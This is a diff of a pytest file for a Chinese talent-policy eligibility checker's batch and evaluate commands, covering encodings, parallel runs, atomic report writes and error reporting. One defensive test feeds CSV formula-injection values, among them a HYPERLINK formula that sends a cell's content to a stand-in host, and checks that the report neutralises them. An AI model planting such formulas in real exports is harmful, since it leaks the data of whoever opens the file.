@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import datetime as dt
+import io
 import json
 from pathlib import Path
 
@@ -67,11 +69,18 @@ def test_evaluate_not_json(tmp_path, capsys):
     assert "不是有效的 JSON：第 2 行第 2 列有误" in capsys.readouterr().err
 
 
-def write_csv(path, header, rows):
-    with open(path, "w", encoding="utf-8", newline="") as fh:
+def write_csv(path, header, rows, encoding="utf-8"):
+    with open(path, "w", encoding=encoding, newline="") as fh:
         writer = csv.writer(fh)
         writer.writerow(header)
         writer.writerows(rows)
+
+
+def read_report(path):
+    """The report's rows; it is UTF-8 with a BOM (Excel and WPS need it to read Chinese)."""
+    raw = Path(path).read_bytes()
+    assert raw.startswith(codecs.BOM_UTF8)
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
 
 
 def test_batch_reports_bad_rows_by_line_and_processes_the_rest(tmp_path, capsys):
@@ -88,7 +97,7 @@ def test_batch_reports_bad_rows_by_line_and_processes_the_rest(tmp_path, capsys)
     err = capsys.readouterr().err
     assert "第 3 行" in err and "birth_date" in err
     assert "第 4 行" in err and "health_title" in err
-    rows = list(csv.DictReader(open(report, encoding="utf-8")))
+    rows = read_report(report)
     assert [r["applicant"] for r in rows] == ["张三", "赵六"]
     first, last = rows
     assert (first["line"], first["programme"], first["tier"], first["verdict"], first["total_yuan"]) == \
@@ -108,7 +117,7 @@ def test_batch_reports_a_cell_that_is_not_an_integer(tmp_path, capsys):
     err = capsys.readouterr().err
     assert all(f"第 {line} 行：years_affiliated_hospital: 应为整数" in err for line in (2, 3, 4)), err
     assert "Traceback" not in err
-    assert [r["line"] for r in csv.DictReader(open(report, encoding="utf-8"))] == ["5"]
+    assert [r["line"] for r in read_report(report)] == ["5"]
 
 
 def test_batch_rejects_unknown_columns(tmp_path, capsys):
@@ -145,21 +154,19 @@ def test_batch_missing_names_the_next_tier_open_to_the_path(tmp_path, capsys):
         ["education", "graduate", "西南大学", "master", "master", "true", "true", "true"],
     ])
     assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
-    e_row, d_row = list(csv.DictReader(open(report, encoding="utf-8")))
+    e_row, d_row = read_report(report)
     assert (e_row["tier"], e_row["tier_verdict"], e_row["missing"]) == ("e", "review", "教育部直属重点师范类高等院校毕业")
     assert (d_row["tier"], d_row["missing"]) == ("d", "")
 
 
-def test_batch_in_parallel_writes_the_same_report(tmp_path):
-    """Files of PARALLEL_FROM_ROWS rows or more use all cores; the report must not change."""
-    import io
-    import pathlib
+def parallel_csv_text() -> str:
+    """PARALLEL_FROM_ROWS and more rows cycling through the cases (the invalid ones included)."""
     import tomllib
 
-    from checker.cli import PARALLEL_FROM_ROWS, run_batch
+    from checker.batch import PARALLEL_FROM_ROWS
 
     profiles = [tomllib.loads(p.read_text("utf-8"))["profile"]
-                for p in sorted(pathlib.Path(__file__).parent.joinpath("cases").glob("*.toml"))]
+                for p in sorted(Path(__file__).parent.joinpath("cases").glob("*.toml"))]
     ids = {q["id"] for q in checker.questions()}
     header = sorted({k for p in profiles for k in p if k in ids})
 
@@ -174,15 +181,41 @@ def test_batch_in_parallel_writes_the_same_report(tmp_path):
     for i in range(PARALLEL_FROM_ROWS + 7):
         profile = profiles[i % len(profiles)]
         writer.writerow([cell(profile[k]) if k in profile else "" for k in header])
-    text = out.getvalue()
-    reports, errors = [], []
-    for jobs in (1, 2):
-        report, err = io.StringIO(), io.StringIO()
-        counts = run_batch(io.StringIO(text), report, err, dt.date(2026, 6, 1), jobs=jobs)
-        reports.append((counts, report.getvalue()))
-        errors.append(err.getvalue())
-    assert reports[0] == reports[1] and errors[0] == errors[1]
-    assert reports[0][0][1] > 0 and "第 " in errors[0]  # the invalid case rows are reported in both
+    return out.getvalue()
+
+
+def batch_in_memory(text: str, jobs: int):
+    from checker.batch import run_batch
+
+    report, err = io.StringIO(), io.StringIO()
+    counts = run_batch(io.StringIO(text, newline=""), report, err, dt.date(2026, 6, 1), jobs=jobs)
+    return counts, report.getvalue(), err.getvalue()
+
+
+def test_batch_in_parallel_writes_the_same_report():
+    """Files of PARALLEL_FROM_ROWS rows or more use all cores; the report must not change."""
+    text = parallel_csv_text()
+    one, two = batch_in_memory(text, 1), batch_in_memory(text, 2)
+    assert one == two
+    assert one[0][1] > 0 and "第 " in one[2]  # the invalid case rows are reported in both
+
+
+def test_batch_in_parallel_where_the_os_has_no_fork(monkeypatch):
+    """Windows has no fork: --jobs must use spawn there, with the same report."""
+    import multiprocessing
+
+    real = multiprocessing.get_context
+
+    def no_fork(method=None):
+        if method == "fork":
+            raise ValueError("cannot find context for 'fork'")
+        return real(method)
+
+    text = parallel_csv_text()
+    expected = batch_in_memory(text, 1)
+    monkeypatch.setattr(multiprocessing, "get_all_start_methods", lambda: ["spawn"])
+    monkeypatch.setattr(multiprocessing, "get_context", no_fork)
+    assert batch_in_memory(text, 2) == expected
 
 
 @pytest.mark.parametrize("args, expected", [
@@ -211,3 +244,179 @@ def test_evaluate_text_money_parts_add_up_for_flexible_introduction(tmp_path, ca
     amounts = [float(n) * (10000 if unit else 1) for n, unit in re.findall(r"([\d.]+)(万)?元", line)]
     total, *parts = amounts
     assert total > 0 and sum(parts) == total, line
+
+
+HEADER = ["applicant", "measure", "situation", "birth_date", "edu_honours", "service_commitment", "school_type"]
+GOOD = ["张三", "education", "recruit", "1976-03-10", "national_model_teacher", "true", "compulsory"]
+
+
+def test_batch_refuses_to_write_its_report_over_its_input(tmp_path, capsys):
+    applicants = tmp_path / "in.csv"
+    write_csv(applicants, HEADER, [GOOD])
+    before = applicants.read_bytes()
+    (tmp_path / "link.csv").symlink_to(applicants)
+    for output in (applicants, tmp_path / "." / "in.csv", tmp_path / "link.csv"):
+        assert main(["batch", str(applicants), "-o", str(output)]) == 2
+        assert "就是申请人文件本身" in capsys.readouterr().err
+    assert applicants.read_bytes() == before
+
+
+@pytest.mark.parametrize("content", [
+    b"",  # empty input
+    b"measure,shoe_size\r\neducation,42\r\n",  # a bad header
+])
+def test_a_fatal_batch_error_leaves_an_existing_report_untouched(tmp_path, content, capsys):
+    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
+    applicants.write_bytes(content)
+    report.write_text("last week's report", "utf-8")
+    assert main(["batch", str(applicants), "-o", str(report)]) == 2
+    assert report.read_text("utf-8") == "last week's report"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]  # no temporary file left
+
+
+def test_the_report_replaces_an_old_one_only_when_complete(tmp_path, monkeypatch):
+    """The report is written beside the target and moved into place at the end."""
+    from checker import batch
+
+    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
+    write_csv(applicants, HEADER, [GOOD, GOOD])
+    report.write_text("old", "utf-8")
+    seen = []
+
+    def interrupted(result):  # the second row's evaluation is interrupted
+        seen.append(sorted(p.name for p in tmp_path.iterdir()))
+        if len(seen) == 2:
+            raise KeyboardInterrupt
+        return original(result)
+
+    original = batch.report_row
+    monkeypatch.setattr(batch, "report_row", interrupted)
+    assert main(["batch", str(applicants), "-o", str(report)]) == 130
+    assert report.read_text("utf-8") == "old"
+    assert any(name.startswith(".out.csv.") for name in seen[0])  # the temporary file, beside the target
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]
+
+
+def test_no_cell_of_the_report_is_a_formula(tmp_path):
+    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
+    names = ['=HYPERLINK("http://x/?"&B2,"x")', "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "王五"]
+    write_csv(applicants, HEADER, [[name] + GOOD[1:] for name in names])
+    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
+    rows = read_report(report)
+    assert [r["applicant"] for r in rows] == ["'" + n for n in names[:-1]] + ["王五"]
+    for row in rows:
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+
+
+def test_one_bad_row_never_stops_the_run(tmp_path, capsys):
+    """Oversize cells, undecodable bytes and a multi-line record: each row reported by its first line."""
+    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
+    good = ",".join(GOOD[1:])
+    applicants.write_bytes("\r\n".join([
+        ",".join(HEADER),
+        f"张三,{good}",                          # line 2
+        f"{'长' * 200_000},{good}",              # line 3: over the csv module's field limit
+        f'"多行\r\n的名字",{good}',               # lines 4-5: one record
+        f"赵六,{good}",                          # line 6
+    ]).encode("utf-8") + b"\r\n\xff\xfe," + good.encode() + f"\r\n钱七,{good}\r\n".encode())  # 7: bad bytes
+    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 1
+    err = capsys.readouterr().err
+    assert "第 3 行：applicant：内容过长" in err
+    assert "第 7 行：含有无法识别的字节" in err
+    assert "Traceback" not in err and "已评估 4 行，错误 2 行" in err
+    assert [(r["line"], r["applicant"]) for r in read_report(report)] == \
+        [("2", "张三"), ("4", "多行\r\n的名字"), ("6", "赵六"), ("8", "钱七")]
+
+
+@pytest.mark.parametrize("header, expected", [
+    (["measure", "", "situation"], "第 2 列的列名为空"),
+    (["measure", "situation", "measure"], "列 measure 重复（第 1、3 列）"),
+])
+def test_header_problems_are_named_before_any_row_runs(tmp_path, header, expected, capsys):
+    applicants = tmp_path / "in.csv"
+    write_csv(applicants, header, [["education", "recruit", "recruit"], ["oops", "x", "y"]])
+    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.csv")]) == 2
+    err = capsys.readouterr().err
+    assert expected in err and "第 2 行" not in err and "第 3 行" not in err
+    assert not (tmp_path / "out.csv").exists()
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk"])
+def test_batch_reads_what_excel_and_wps_save(tmp_path, encoding):
+    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
+    write_csv(applicants, HEADER + ["university"], [GOOD + ["西南大学"], ["李四·赵"] + GOOD[1:] + ["重庆大学"]],
+              encoding=encoding)
+    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
+    assert [r["applicant"] for r in read_report(report)] == ["张三", "李四·赵"]
+
+
+def run_cli(args, encoding, cwd):
+    import os
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONPATH": str(Path(__file__).parent.parent)}
+    return subprocess.run([sys.executable, "-m", "checker", *args], capture_output=True, env=env, cwd=cwd)
+
+
+@pytest.mark.parametrize("encoding", ["gbk", "ascii", "utf-8"])
+def test_any_console_prints_without_a_traceback(tmp_path, encoding):
+    """A Chinese Windows console is GBK (no ✓ or ✗); a text answer may hold a lone surrogate."""
+    path = tmp_path / "profile.json"
+    graduate = {"measure": "education", "situation": "graduate", "university": "西南\ud800大学", "edu_degree": "master"}
+    path.write_text(json.dumps(graduate), "ascii")  # JSON escapes the surrogate; the graduate path prints it
+    for fmt in ("text", "json"):
+        done = run_cli(["evaluate", str(path), "--format", fmt, "--as-of", "2026-06-01"], encoding, tmp_path)
+        assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr.decode(encoding, "replace")
+        assert "2026-06-01" in done.stdout.decode(encoding)
+    if encoding == "gbk":
+        assert "√" in run_cli(["evaluate", str(path)], encoding, tmp_path).stdout.decode("gbk")
+
+
+def test_error_output_is_bounded(tmp_path, capsys):
+    """100,000 bad answers to one multi question: the first errors, then how many more."""
+    path = tmp_path / "profile.json"
+    path.write_text(json.dumps({**PROFILE, "edu_honours": ["national_model_teacher"] * 50_000 + ["x"] * 50_000}))
+    assert main(["evaluate", str(path)]) == 2
+    err = capsys.readouterr().err
+    assert len(err.splitlines()) <= 12 and "另有 99989 处错误" in err, err[:2000]
+
+
+def test_evaluate_accepts_a_utf8_bom(tmp_path, capsys):
+    path = tmp_path / "profile.json"
+    path.write_bytes(codecs.BOM_UTF8 + json.dumps(PROFILE).encode())
+    assert main(["evaluate", str(path), "--as-of", "2026-06-01"]) == 0
+    assert "最高可能层次" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("args", [["--help"], ["batch", "--help"], ["evaluate", "--help"]])
+def test_exit_codes_are_documented(args, capsys):
+    with pytest.raises(SystemExit):
+        main(args)
+    out = capsys.readouterr().out
+    assert all(f"\n  {code} " in out for code in (0, 1, 2)), out
+    readme = (Path(__file__).parent.parent / "README.md").read_text("utf-8")
+    assert all(f"| {code} |" in readme for code in (0, 1, 2))
+
+
+@pytest.mark.parametrize("digits", ["０１２３４５６７８９", "٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹"])
+def test_non_ascii_digits_are_a_format_error(tmp_path, digits, capsys):
+    """Full-width and Arabic-Indic digits: int() and \\d accept them; the checker must not."""
+    wide = str.maketrans("0123456789", digits)
+    with pytest.raises(checker.ValidationError) as info:
+        checker.evaluate({"measure": "health", "birth_date": "1990-01-02".translate(wide)})
+    assert "应为 YYYY-MM-DD 格式的日期" in str(info.value)
+    applicants = tmp_path / "in.csv"
+    write_csv(applicants, ["measure", "situation", "years_affiliated_hospital"],
+              [["health", "recruit", "12".translate(wide)]])
+    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.csv")]) == 1
+    assert "第 2 行：years_affiliated_hospital: 应为整数" in capsys.readouterr().err
+
+
+def test_schedule_dates_stay_within_four_digit_years():
+    case = {**PROFILE, "start_date": "9999-12-01"}
+    with pytest.raises(checker.ValidationError) as info:
+        checker.evaluate(case, as_of=dt.date(2026, 6, 1))
+    assert "start_date" in str(info.value)
+    months = checker.evaluate({**PROFILE, "start_date": "2030-12-01"}, as_of=dt.date(2026, 6, 1)).to_dict()["money"]
+    assert months["yearly"][-1]["to"] == "2035-12"
